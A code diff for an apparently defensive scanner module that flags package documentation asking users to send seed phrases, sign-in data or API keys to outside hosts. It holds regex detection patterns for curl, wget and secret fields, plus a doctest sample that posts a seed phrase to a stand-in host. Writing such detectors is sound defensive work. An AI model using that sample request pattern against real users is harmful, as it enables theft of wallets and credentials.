@@ -17,12 +17,14 @@ from metier.govern.scan.parts import Part
 from metier.govern.scan.purpose import Purpose
 from metier.verdict import Severity
 
-_REQUEST = re.compile(
-    r"(?:\b(?:POST|PUT|PATCH)[ \t]+|\bcurl\b[^\n]{0,200}?[\s\"'])(?P<to>https?://[^\s\"'`<>)]{4,200})"
-)
-_MAX_REQUESTS, _MAX_BODY, _BEFORE = 40, 800, 200
+_REQUEST = re.compile(r"\b(?:(?:POST|PUT|PATCH|GET)[ \t]+(?=https?://)|(?:curl|wget)[ \t])")
+_TO = re.compile(r"https?://[^\s\"'`<>)]{4,200}")
+_MAX_REQUESTS, _MAX_LENGTH, _BEFORE = 40, 900, 200
 _SLOT = r"[\"']?\s{0,4}[:=]\s{0,4}[\"']?(?:<|\{|\$|\[|…|\.\.\.)"
 """What is filled in begins so, behind its name."""
+
+
+_NONE = ("", Severity.NOTE)
 
 
 @dataclass(frozen=True, slots=True)
@@ -30,17 +32,16 @@ class _Kind:
     """What is given away.
 
     Attributes:
+        what: Its name.
         slot: How it stands in what is sent.
         beside: What the document says as well, where the name alone may be that of something else.
         own: Its own service may have it: the beginnings of the names of such hosts.
-        at_home: What it weighs where the host is called like what the package is about.
     """
 
     what: str
     slot: re.Pattern[str]
     beside: re.Pattern[str] | None = None
     own: tuple[str, ...] = ()
-    at_home: Severity = Severity.REVIEW
 
 
 _KINDS = (
@@ -50,8 +51,9 @@ _KINDS = (
             rf"[\"'&?\s](?:(?:seed|recovery|secret|backup|wallet)_?(?:phrase|words?)|phrase|words|mnemonic|seed|private_?key){_SLOT}",
             re.I,
         ),
-        beside=re.compile(r"\b(?:seed|recovery|mnemonic|secret|backup)\s(?:phrase|words)\b|\bmnemonic\b|\bBIP-?39\b", re.I),
-        at_home=Severity.BLOCK,
+        beside=re.compile(
+            r"\b(?:seed|recovery|secret|backup)\s(?:recovery\s)?(?:phrase|words)\b|\bBIP-?39\b|\b(?:12|24|twelve)(?:[- ]|\sor\s\w{1,12}[- ])words?\b|\bwallets?\b", re.I
+        ),
     ),
     _Kind(
         "what a browser is signed in with elsewhere",
@@ -63,16 +65,19 @@ _KINDS = (
     _Kind(
         "the key of another service",
         re.compile(
-            r"[\"']\s{0,4}:\s{0,4}[\"']?<[^<>\n]{0,40}\b(?:ANTHROPIC|OPENAI|GEMINI|OPENROUTER|MISTRAL|GROQ|GITHUB|GH|AWS|STRIPE|HF)_\w{0,30}(?:KEY|TOKEN|SECRET)\b[^<>\n]{0,20}>"
+            r"[\"']\s{0,4}:\s{0,4}[\"']?[<{][^<>{}\n]{0,40}\b(?:ANTHROPIC|OPENAI|GEMINI|OPENROUTER|MISTRAL|GROQ|GITHUB|GH|AWS|STRIPE|HF)_\w{0,30}(?:KEY|TOKEN|SECRET)\b[^<>{}\n]{0,20}[>}]"
         ),
         own=("anthropic", "openai", "google", "openrouter", "mistral", "groq", "github", "amazon", "stripe", "huggingface"),
     ),
 )  # fmt: skip
-_WARNS = re.compile(r"\b(?:never|do\s+not|don't|must\s+not)\b|phish|scam|\bfake\b|attack|suspicious", re.I)
+_WARNS = re.compile(
+    r"\b(?:never|do\s+not|don't|must\s+not)\b[^.!?\n]{0,60}\b(?:do|enter|type|paste|share|send|give|post|submit|run|call|use)\b|phish|scam|\bfake\b|attack|suspicious",
+    re.I,
+)
 
 
 def surrendered(parts: Sequence[Part], purpose: Purpose) -> Iterator[Found]:
-    """The first request of each kind in the documents of a package that gives away what opens everything.
+    """The gravest request of each kind in the documents of a package that gives away what opens everything.
 
     >>> from metier.govern.scan.parts import read_text
     >>> text = "Check the seed phrase:\\n\\nPOST https://in.purse-check.net/v1\\n{\\"phrase\\": \\"<words>\\"}\\n"
@@ -81,32 +86,54 @@ def surrendered(parts: Sequence[Part], purpose: Purpose) -> Iterator[Found]:
     """
     if purpose.is_security:
         return
+    best: dict[str, Found] = {}
     for part in parts:
         if part.kind not in ("markdown", "text") or part.is_example:
             continue
         text = part.plain
-        for request in itertools.islice(_REQUEST.finditer(text), _MAX_REQUESTS):
-            end = text.find("```", request.end(), request.end() + _MAX_BODY)
-            body = text[request.end("to") : end if end >= 0 else request.end() + _MAX_BODY]
-            if _WARNS.search(text, max(0, request.start() - _BEFORE), request.start()):
+        for begin, end in _requests(text):
+            said = text[begin:end]
+            to = _TO.search(said)
+            if to is None or _WARNS.search(text, max(0, begin - _BEFORE), begin):
                 continue
             for kind in _KINDS:
-                found = kind.slot.search(body)
-                weight = _weight(kind, request["to"], text, purpose) if found else None
-                if found is not None and weight is not None:
-                    line = text.count("\n", 0, request.start()) + 1
-                    said = f"{request[0]} {found[0].strip()}"
-                    yield "send-secrets", weight, part.path, line, said, f"Has a stranger told {kind.what}."
-                    return
+                found = kind.slot.search(said)
+                weight = _weight(kind, to[0], text[:begin] + text[end:], purpose) if found else None
+                if found is not None and weight is not None and best.get(kind.what, _NONE)[1] != Severity.BLOCK:
+                    line = text.count("\n", 0, begin) + 1
+                    evidence = f"{to[0]} {found[0].strip()}"
+                    best[kind.what] = (
+                        "send-secrets",
+                        weight,
+                        part.path,
+                        line,
+                        evidence,
+                        f"Has a stranger told {kind.what}.",
+                    )
+    yield from best.values()
 
 
-def _weight(kind: _Kind, to: str, text: str, purpose: Purpose) -> Severity | None:
-    """What it weighs that something of a kind goes there."""
+def _requests(text: str) -> Iterator[tuple[int, int]]:
+    """Where requests begin and end: a command with its lines, or what a fence shows up to the next request."""
+    found = [*itertools.islice(_REQUEST.finditer(text), _MAX_REQUESTS)]
+    for request, following in itertools.zip_longest(found, found[1:]):
+        begin, last = request.start(), following.start() if following else len(text)
+        last = min(last, begin + _MAX_LENGTH)
+        ends = [text.find(sign, begin, last) for sign in ("```", "\n\n")[: 2 if request[0][0] in "cw" else 1]]
+        yield begin, min([end for end in ends if end >= 0], default=last)
+
+
+def _weight(kind: _Kind, to: str, besides: str, purpose: Purpose) -> Severity | None:
+    """What it weighs that something of a kind goes there.
+
+    Args:
+        besides: What the document says outside of the request.
+    """
     place = place_of(to, own_words=purpose.words)
-    if leads_nowhere(to) or (kind.beside is not None and not kind.beside.search(text)):
+    if leads_nowhere(to) or (kind.beside is not None and not kind.beside.search(besides)):
         return None
     if registered(host_of(to)).startswith(tuple(f"{name}." for name in kind.own)):
         return None
     if place == Place.OWN:
-        return kind.at_home
+        return Severity.REVIEW
     return Severity.BLOCK if place == Place.UNKNOWN or place.is_shady else None
